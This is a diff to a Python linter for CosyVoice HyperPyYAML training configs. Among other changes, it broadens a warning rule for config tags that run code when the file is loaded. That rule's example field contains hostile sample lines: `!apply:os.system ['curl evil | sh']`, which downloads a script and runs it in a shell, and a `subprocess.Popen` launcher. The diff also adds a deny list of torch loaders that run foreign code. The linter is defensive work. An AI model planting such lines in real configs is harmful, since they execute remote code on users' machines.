@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import difflib
 import os
+from collections import Counter
 from pathlib import Path
 from typing import Iterator
 
 from cosyvoice_ext.lint import Issue, LintContext, Rule
 from cosyvoice_ext.lint.document import REF, RefError
-from cosyvoice_ext.lint.yamlpos import YMap, YScalar, walk
+from cosyvoice_ext.lint.yamlpos import YMap, YScalar
 
 # Top-level keys of upstream's CosyVoice/CosyVoice2/CosyVoice3 configs (+ our section): typo targets.
 KNOWN_TOP = (
@@ -26,9 +27,12 @@ TRAIN_CONF_REQUIRED = ("optim", "optim_conf", "scheduler", "scheduler_conf", "ma
                        "accum_grad", "log_interval", "save_per_step")
 TRAIN_CONF_KNOWN = TRAIN_CONF_REQUIRED + ("optim_d", "optim_conf_d", "scheduler_d", "scheduler_conf_d")
 SAFE_APPLY = {"random.seed", "numpy.random.seed", "torch.manual_seed", "torch.cuda.manual_seed_all"}
+_KNOWN_COUNTS = {k: Counter(k) for k in (*KNOWN_TOP, *TRAIN_CONF_REQUIRED, "optim_d", "optim_conf_d", "scheduler_d",
+                                          "scheduler_conf_d")}
 
 
 def _syntax(ctx: LintContext) -> Iterator[Issue]:
+    """HyperPyYAML cannot load it, so training fails before doing anything."""
     for p in ctx.doc.parsed.problems:
         if p.kind in ("syntax", "not-mapping"):
             yield Issue(p.message, at=p.pos, fix="fix the YAML so that it parses; `python -c \"import yaml,sys; "
@@ -36,13 +40,17 @@ def _syntax(ctx: LintContext) -> Iterator[Issue]:
 
 
 def _duplicates(ctx: LintContext) -> Iterator[Issue]:
+    """HyperPyYAML (ruamel) refuses duplicate keys; plain YAML readers silently keep the last one, so the value you
+    edit may not be the one that counts."""
     for p in ctx.doc.parsed.problems:
         if p.kind == "duplicate":
             yield Issue(p.message, at=p.pos, fix="keep one of the two definitions")
 
 
 def _refs(ctx: LintContext) -> Iterator[Issue]:
-    for _, node in walk(ctx.doc.root):
+    """HyperPyYAML raises at load time; with a typo in a processor reference the whole pipeline fails."""
+    suggestions: dict[str, list[str]] = {}  # per missing name: one difflib pass over the keys, not one per ref
+    for _, node in ctx.doc.nodes():
         if isinstance(node, YScalar) and node.tag in ("!ref", "!copy"):
             refs = REF.findall(node.raw)
             if not refs:
@@ -53,24 +61,102 @@ def _refs(ctx: LintContext) -> Iterator[Issue]:
                     ctx.doc.ref_target(ref)
                 except RefError:
                     top = ref.split(".")[0].split("[")[0].strip()
-                    close = difflib.get_close_matches(top, ctx.doc.root.keys(), n=1, cutoff=0.6)
+                    if top not in suggestions:
+                        suggestions[top] = difflib.get_close_matches(top, ctx.doc.root.keys(), n=1, cutoff=0.6)
+                    close = suggestions[top]
                     yield Issue(f"!ref <{ref}> does not resolve: no key '{ref}' in this config", at=node,
                                 fix=f"did you mean <{close[0]}>?" if close else "define the key or fix the reference")
 
 
+#: module roots whose names a config may `!new:`/`!name:`/`!module:` without a finding: upstream's own code
+#: and what it builds on (issue 10); importing them runs nothing a CosyVoice install does not run anyway
+TRUSTED_ROOTS = ("cosyvoice", "matcha", "torch")
+#: ... except torch callables that load and run code from somewhere else when `!new:` calls them
+#: (pickles, TorchScript, hub repositories, compiled extensions)
+RUNS_FOREIGN_CODE = ("torch.load", "torch.serialization.load", "torch.hub", "torch.jit.load", "torch.package",
+                     "torch.utils.cpp_extension", "torch.ops.load_library", "torch.classes.load_library")
+#: names outside those roots that upstream's own recipes use (examples/*/conf at 44316c34 and ace7c47):
+#: omegaconf's config container (flow cfm_params) and whisper's tokenizer factory (CosyVoice 1 recipes)
+RECIPE_NAMES = {"new": frozenset({"omegaconf.DictConfig"}), "name": frozenset({"whisper.tokenizer.get_tokenizer"})}
+
+
+def _within(target: str, prefixes: tuple[str, ...]) -> bool:
+    return any(target == p or target.startswith(p + ".") for p in prefixes)
+
+
+def _runs_code(kind: str, target: str) -> str | None:
+    """Why loading a `!kind:target` tag runs code lint cannot vouch for (None: it does not)."""
+    if kind == "include":
+        return f"!include:{target} loads another YAML file that lint does not read, with whatever tags it holds"
+    if kind == "apply":
+        return None if target in SAFE_APPLY else f"!apply:{target} calls {target} whenever this config is loaded"
+    if target in RECIPE_NAMES.get(kind, ()):
+        return None
+    if _within(target, TRUSTED_ROOTS):
+        if kind == "new" and _within(target, RUNS_FOREIGN_CODE):
+            return f"!new:{target} calls {target}, which loads and runs code from outside this config"
+        return None
+    module = target.split(".")[0]
+    verb = {"new": f"imports {module} and calls {target}", "name": f"imports {module} (running its top-level code)",
+            "module": f"imports {target} (running its top-level code)"}[kind]
+    return f"!{kind}:{target} {verb} whenever this config is loaded"
+
+
 def _apply(ctx: LintContext) -> Iterator[Issue]:
-    for _, node in walk(ctx.doc.root):
+    """HyperPyYAML runs code while it loads a config: `!new:` imports a module and calls a class or
+    function, `!name:` and `!module:` import a module (its top-level code runs), `!apply:` calls a
+    function, and `!include:` pulls in another file with tags of its own. A shared config can run
+    anything this way (`!apply:os.system`, `!new:subprocess.Popen`).
+
+    Not flagged, because a CosyVoice training run executes them anyway: `!new:`/`!name:`/`!module:`
+    of the `cosyvoice`, `matcha` and `torch` modules (except the torch callables that load pickles,
+    TorchScript, hub code or compiled extensions: torch.load, torch.hub, torch.jit.load,
+    torch.package, torch.utils.cpp_extension, torch.ops/classes.load_library, which `!new:` would
+    call); the seeding calls `!apply:random.seed`, `numpy.random.seed`, `torch.manual_seed` and
+    `torch.cuda.manual_seed_all`; and the two other names upstream's own recipes use at both
+    supported commits, `!new:omegaconf.DictConfig` and `!name:whisper.tokenizer.get_tokenizer`.
+    A warning, not an error: the config still trains (the code runs too)."""
+    for _, node in ctx.doc.nodes():
         call = node.call
-        if call and call[0] in ("apply", "module") and call[1] not in SAFE_APPLY:
-            yield Issue(f"!{call[0]}:{call[1]} runs Python code whenever this config is loaded "
-                        "(cosyext lint only reads it)", at=node,
-                        fix="make sure you trust this line; seeding calls like !apply:random.seed are the usual use")
+        why = _runs_code(*call) if call else None
+        if why:
+            yield Issue(f"{why} (cosyext lint only reads it)", at=node,
+                        fix="make sure you trust this line; upstream's recipes need only cosyvoice, matcha and torch "
+                            "names and the seeding calls")
+
+
+def _could_match(word: str, known: tuple[str, ...], cutoff: float) -> bool:
+    """Whether difflib.get_close_matches(word, known, cutoff=cutoff) can find anything: the length and
+    character-multiset upper bounds it applies itself, but without its per-candidate overhead (a
+    config with 40,000 generated keys spent most of its lint time in difflib)."""
+    counts = Counter(word)
+    for k in known:
+        total = len(word) + len(k)
+        if 2.0 * min(len(word), len(k)) / total < cutoff:
+            continue
+        common = sum(min(n, counts[c]) for c, n in _KNOWN_COUNTS[k].items())
+        if 2.0 * common / total >= cutoff:
+            return True
+    return False
+
+
+def _referenced(ctx: LintContext) -> set[str]:
+    """Top-level names some `!ref <name...>` uses: keys the author defined as variables on purpose."""
+    names = set()
+    for _, node in ctx.doc.nodes():
+        if isinstance(node, YScalar) and node.tag in ("!ref", "!copy"):
+            names.update(r.split(".")[0].split("[")[0].strip() for r in REF.findall(node.raw))
+    return names
 
 
 def _top_typos(ctx: LintContext) -> Iterator[Issue]:
-    keys = ctx.doc.root.keys()
+    """Upstream ignores unknown keys, so `trian_conf:` or `acum_grad:` silently does nothing."""
+    keys = set(ctx.doc.root.keys())
+    used = _referenced(ctx)
     for k, _ in ctx.doc.root.items:
-        if not isinstance(k, YScalar) or k.raw in KNOWN_TOP or k.raw.startswith("__"):
+        if not isinstance(k, YScalar) or k.raw in KNOWN_TOP or k.raw.startswith("__") or k.raw in used:
+            continue
+        if not _could_match(k.raw, KNOWN_TOP, 0.75):
             continue
         close = [c for c in difflib.get_close_matches(k.raw, KNOWN_TOP, n=1, cutoff=0.75) if c not in keys]
         if close:
@@ -87,6 +173,8 @@ def _top_typos(ctx: LintContext) -> Iterator[Issue]:
 
 
 def _train_conf_keys(ctx: LintContext) -> Iterator[Issue]:
+    """init_optimizer_and_scheduler and the executor index train_conf keys directly: a missing one is a KeyError after
+    the model was built."""
     root = ctx.doc.root
     tc_key = root.key_node("train_conf")
     tc = ctx.doc.deref(root.get("train_conf"))
@@ -100,12 +188,16 @@ def _train_conf_keys(ctx: LintContext) -> Iterator[Issue]:
         yield Issue("train_conf must be a mapping", at=tc_key)
         return
     missing = [k for k in TRAIN_CONF_REQUIRED if tc.get(k) is None]
+    if ("scheduler_conf" in missing and ctx.doc.value("train_conf", "scheduler") == "constantlr"
+            and ctx.train_engine != "deepspeed"):
+        missing.remove("scheduler_conf")  # torch_ddp builds ConstantLR(optimizer) without reading it (seen)
     if missing:
         yield Issue(f"train_conf lacks {', '.join(missing)}: upstream's optimizer/executor code indexes these keys",
                     at=tc_key, fix="add " + ", ".join(f"{k}: ..." for k in missing))
 
 
 def _model_section(ctx: LintContext) -> Iterator[Issue]:
+    """train.py takes configs[args.model]; without it the run dies with a KeyError/None model."""
     if ctx.model in ("llm", "flow", "hift") and ctx.doc.root.get(ctx.model) is None:
         yield Issue(f"--model {ctx.model} but the config defines no top-level '{ctx.model}:' model",
                     at=ctx.doc.root.start, fix=f"add the {ctx.model} model section or train another model")
@@ -115,8 +207,10 @@ PATH_KEYS = ("qwen_pretrain_path", "token_path", "pretrain_path", "model_dir", "
 
 
 def _paths(ctx: LintContext) -> Iterator[Issue]:
+    """Missing paths fail only after the model is built (minutes in), or, for the Qwen tokenizer, when the data loader
+    starts."""
     override = ctx.options.get("qwen_pretrain_path")
-    for keypath, node in walk(ctx.doc.root):
+    for keypath, node in ctx.doc.nodes():
         if not keypath or not isinstance(keypath[-1], str) or not isinstance(node, YScalar) or node.tag:
             continue
         name = keypath[-1]
@@ -138,39 +232,28 @@ def _paths(ctx: LintContext) -> Iterator[Issue]:
 
 RULES = [
     Rule("CX001", "yaml-syntax", "error", "The file is not valid YAML (or not a mapping).", _syntax,
-         why="HyperPyYAML cannot load it, so training fails before doing anything.",
          example="train_conf:\n  optim: adam\n   lr: 1e-5   # bad indentation",
          fix="Fix the YAML at the reported line and column."),
     Rule("CX002", "duplicate-key", "error", "A key is defined twice in the same mapping.", _duplicates,
-         why="HyperPyYAML (ruamel) refuses duplicate keys; plain YAML readers silently keep the last one, "
-             "so the value you edit may not be the one that counts.",
          example="filter: !name:cosyvoice.dataset.processor.filter\n  token_max_length: 200\n  token_max_length: 0",
          fix="Delete one of the definitions."),
     Rule("CX003", "unresolved-ref", "error", "A `!ref <key>` names a key the config does not define.", _refs,
-         why="HyperPyYAML raises at load time; with a typo in a processor reference the whole pipeline fails.",
          example="data_pipeline: [!ref <parquet_openr>]",
          fix="Point the reference at an existing key (nested keys: <a.b>)."),
-    Rule("CX004", "code-on-load", "warning", "`!apply:`/`!module:` runs arbitrary Python when the config is loaded.",
-         _apply,
-         why="Configs are code for HyperPyYAML; a shared config can run anything (`!apply:os.system`). "
-             "Seeding calls (random.seed, numpy.random.seed, torch.manual_seed, torch.cuda.manual_seed_all) are allowed.",
-         example="__hello: !apply:os.system ['curl evil | sh']",
+    Rule("CX004", "code-on-load", "warning",
+         "A tag runs code outside cosyvoice/matcha/torch when the config is loaded (`!new:`, `!name:`, `!apply:`, "
+         "`!module:`, `!include:`).", _apply,
+         example="__hello: !apply:os.system ['curl evil | sh']\nlauncher: !new:subprocess.Popen [['sh', 'x.sh']]",
          fix="Remove the line unless you wrote it and trust it."),
     Rule("CX501", "missing-path", "warning", "A path-like value (`*_path`, `*_dir`) does not exist.", _paths,
-         why="Missing paths fail only after the model is built (minutes in), or, for the Qwen tokenizer, "
-             "when the data loader starts.",
          example="qwen_pretrain_path: /data/pretrained/CosyVoice2-0.5B/CosyVoice-BlankEN-typo",
          fix="Fix the path; for qwen_pretrain_path pass --qwen_pretrain_path to train.py (it overrides the key)."),
     Rule("CX502", "key-typo", "warning", "An unknown top-level or train_conf key looks like a misspelled known key.",
          _top_typos,
-         why="Upstream ignores unknown keys, so `trian_conf:` or `acum_grad:` silently does nothing.",
          example="train_conf:\n  acum_grad: 4", fix="Rename the key to the suggestion."),
     Rule("CX503", "train-conf-keys", "error", "train_conf is missing or lacks keys upstream's training code reads.",
          _train_conf_keys,
-         why="init_optimizer_and_scheduler and the executor index train_conf keys directly: a missing one is a "
-             "KeyError after the model was built.",
          example="train_conf:\n  optim: adam", fix="Add the missing keys (see upstream's cosyvoice2.yaml)."),
     Rule("CX504", "model-section", "error", "`--model X` is given but the config has no `X:` model.", _model_section,
-         why="train.py takes configs[args.model]; without it the run dies with a KeyError/None model.",
          example="# cosyext lint --model flow on a config without flow:", fix="Add the model or pick the right --model."),
 ]
